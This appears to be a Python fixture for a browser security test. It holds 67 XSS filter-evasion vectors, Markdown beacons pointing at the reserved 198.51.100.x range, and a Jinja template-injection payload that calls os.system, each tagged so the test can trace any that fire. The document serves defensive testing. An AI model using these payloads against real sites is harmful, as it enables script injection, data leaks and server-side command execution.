"""Hostile text for the real-browser security test: OWASP XSS filter-evasion vectors, Markdown
beacons and template syntax.

Vector n (1-based) calls `alert(n)` or sets `window.__xss` if it ever runs, and every remote
reference in it points at 198.51.100.n (TEST-NET-2, never routed), so a dialog or a blocked request
names the vector that got through. `{MARKER}` is replaced by a file path that a server-side template
payload would create.
"""
from __future__ import annotations

import base64
import re

_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(34)"/>').decode()

_VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://198.51.100.2/xss.js></SCRIPT>",
    "<IMG SRC=x onerror=alert(3)>",
    '<img src="http://198.51.100.4/a.png" onerror="alert(4)">',
    "<svg/onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    '"><script>alert(7)</script>',
    "'><img src=x onerror=alert(8)>",
    "<ScRiPt>alert(9)</sCrIpT>",
    "<IMG SRC=javascript:alert(10)>",
    "<IMG SRC=JaVaScRiPt:alert(11)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#49;&#50;&#41;>",
    '<IMG SRC="jav&#x09;ascript:alert(13);">',
    '<iframe src="javascript:alert(14)"></iframe>',
    "<iframe src=http://198.51.100.15/frame.html></iframe>",
    "<body onload=alert(16)>",
    '<BODY BACKGROUND="javascript:alert(17)">',
    '<div style="width: expression(alert(18));">x18</div>',
    '<DIV STYLE="background-image: url(http://198.51.100.19/bg.png)">x19</DIV>',
    '<a href="javascript:alert(20)">click me 20</a>',
    "![x](http://198.51.100.21/b.png)",
    "[click](javascript:alert(22))",
    "{{7*7}}",
    "{% raw %}",
    "{{ cycler.__init__.__globals__.os.system('touch {MARKER}') }}",
    "<<SCRIPT>alert(26);//<</SCRIPT>",
    '<IMG """><SCRIPT>alert(27)</SCRIPT>">',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(28);">',
    '<LINK REL="stylesheet" HREF="http://198.51.100.29/xss.css">',
    "<STYLE>@import'http://198.51.100.30/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(31);">',
    '<TABLE BACKGROUND="http://198.51.100.32/t.png"><td>x32</td></TABLE>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://198.51.100.33/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="data:image/svg+xml;base64,{_SVG}" type="image/svg+xml">',
    "<details open ontoggle=alert(35)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(36)>",
    "javascript:alert(37)",
    '<a href="jav&#x0A;ascript:alert(38)">x38</a>',
    "</script><script>alert(39)</script>",
    '<!--<img src="--><img src=x onerror=alert(40)//">',
    "\u2028</script><script>alert(41)//",
    "<img src=x:alert(42) onerror=eval(src)>",
    '<video><source onerror="alert(43)">',
    "<audio src=x onerror=alert(44)>",
    '<object data="javascript:alert(45)">',
    "<marquee onstart=alert(46)>x46</marquee>",
    "<style>*{background:url(//198.51.100.47/s.png)}</style>",
    '<base href="http://198.51.100.48/">',
    "{# unclosed comment {%",
    "${alert(50)}",
    "&lt;script&gt;alert(51)&lt;/script&gt;",
    "%3Cscript%3Ealert(52)%3C/script%3E",
    "<img src=http://198.51.100.53/beacon.gif>",
    "![y](//198.51.100.54/b.png)",
    "<http://198.51.100.55/autolink>",
    "كركوك<script>alert(56)</script>",
    "note\n\n![beacon](http://198.51.100.57/b.png)\n\n<img src=x onerror=alert(57)>",
    "![z][r57]\n\n[r57]: http://198.51.100.58/r.png",
    "<img src=http:\\\\198.51.100.59\\b.png>",
    "![w](http:\\\\198.51.100.60\\w.png)",
    "<svg><animate onbegin=alert(61) attributeName=x dur=1s>",
    "<img src=x onerror=\"window.__xss=(window.__xss||0)+1\">",
    "<script>window.__xss=(window.__xss||0)+1</script>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2NCk8L3NjcmlwdD4=">x64</a>',
    "'-alert(65)-'",
    '";alert(66);//',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(67)>\">",
)


def vectors(*, marker: str) -> list[str]:
    """The vectors, the template payload writing to `marker` (an absolute path) if it ever runs."""
    return [v.replace("{MARKER}", marker) for v in _VECTORS]


def _check() -> None:
    """Every vector names itself (alert(n), 198.51.100.n or the shared window.__xss hook) or is
    template syntax, so what fires can be traced back to it."""
    for n, v in enumerate(_VECTORS, start=1):
        named = f"alert({n})" in v or f"198.51.100.{n}/" in v or f"198.51.100.{n}\\" in v or "__xss" in v
        template = "{{" in v or "{%" in v or "{#" in v
        encoded = n in (12, 34, 64)  # alert(n) is encoded inside the vector
        assert named or template or encoded, f"vector {n} does not name itself: {v!r}"


_check()
